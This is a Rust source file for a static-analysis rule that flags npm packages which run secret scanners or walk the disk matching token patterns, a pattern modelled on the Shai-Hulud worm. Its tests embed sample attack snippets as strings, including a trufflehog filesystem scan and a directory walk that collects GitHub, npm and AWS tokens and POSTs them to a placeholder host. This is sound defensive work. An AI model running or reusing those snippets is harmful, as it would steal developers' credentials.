//! ## What it does
//! Fires when package code runs a secret scanner (`trufflehog`, `gitleaks`) or walks the file
//! system collecting files that match token patterns (GitHub, npm, AWS, Slack, Discord tokens,
//! private keys): directory listing plus file reads plus token regular expressions. Critical
//! when the file can also send data or runs at install time; high otherwise.
//!
//! ## Why is this bad?
//! A dependency has no business searching the developer's disk for credentials.
//!
//! ## Example
//! ```js
//! execSync('trufflehog filesystem / --json');   // secret-scanner
//! ```
//! Benign look-alike: `@octokit/auth-token` checking whether a token *passed to it* looks like
//! `ghp_…` (a pattern, but no directory walk).
//!
//! ## Motivated by
//! Shai-Hulud (September and November 2025), which downloaded trufflehog to harvest tokens.

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::facts::FsKind;
use crate::js::strings::Family;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for e in &ctx.facts.execs {
        if e.families.has(Family::SecretTool) {
            out.report(
                AlertId::SecretScanner,
                AlertSeverity::Critical,
                e.span,
                format!("`{}` runs a secret scanner", e.callee),
                Vec::new(),
            );
        }
    }
    for n in &ctx.facts.net {
        if n.urls.iter().any(|u| {
            let t = u.text.to_ascii_lowercase();
            t.contains("trufflehog") || t.contains("gitleaks")
        }) {
            out.report(
                AlertId::SecretScanner,
                AlertSeverity::Critical,
                n.span,
                "downloads a secret scanner",
                n.urls.iter().map(|u| u.text.clone()).collect(),
            );
        }
    }
    let kinds = ctx
        .facts
        .regexes
        .iter()
        .fold(0u8, |acc, r| acc | r.what.secret_kinds);
    let walks = ctx.facts.fs.iter().any(|op| op.kind == FsKind::ReadDir);
    let reads = ctx.facts.fs.iter().any(|op| op.kind == FsKind::Read);
    if kinds.count_ones() >= 2 && walks && reads {
        let Some(first) = ctx.facts.regexes.iter().find(|r| r.what.secret_kinds != 0) else {
            return;
        };
        let severity = if !ctx.sends().is_empty() || ctx.install_time {
            AlertSeverity::Critical
        } else {
            AlertSeverity::High
        };
        out.report(
            AlertId::SecretScanner,
            severity,
            first.span,
            format!(
                "walks directories and reads files matching {} kinds of token patterns",
                kinds.count_ones()
            ),
            Vec::new(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn scanner_tools_and_token_walks_fire() {
        fires(
            "require('child_process').execSync('trufflehog filesystem ' + home + ' --json');",
            false,
            AlertId::SecretScanner,
            AlertSeverity::Critical,
        );
        fires(
            "const fs = require('fs');\nconst pats = [/ghp_[A-Za-z0-9]{36}/g, /npm_[A-Za-z0-9]{36}/g, /AKIA[0-9A-Z]{16}/g];\nfunction walk(d) { for (const f of fs.readdirSync(d)) { const s = fs.readFileSync(d + '/' + f, 'utf8'); pats.forEach(p => found.push(...s.match(p) || [])); } }\nwalk(process.cwd());\nfetch('https://c.example', { method: 'POST', body: JSON.stringify(found) });",
            false,
            AlertId::SecretScanner,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn token_shape_checks_do_not() {
        silent(
            "export function isToken(t) { return /^(ghp|gho|ghu|ghs)_/.test(t) || /^npm_[A-Za-z0-9]{36}$/.test(t); }",
            false,
            AlertId::SecretScanner,
        );
        silent(
            "console.log('run gitleaks before you commit');",
            false,
            AlertId::SecretScanner,
        );
    }
}
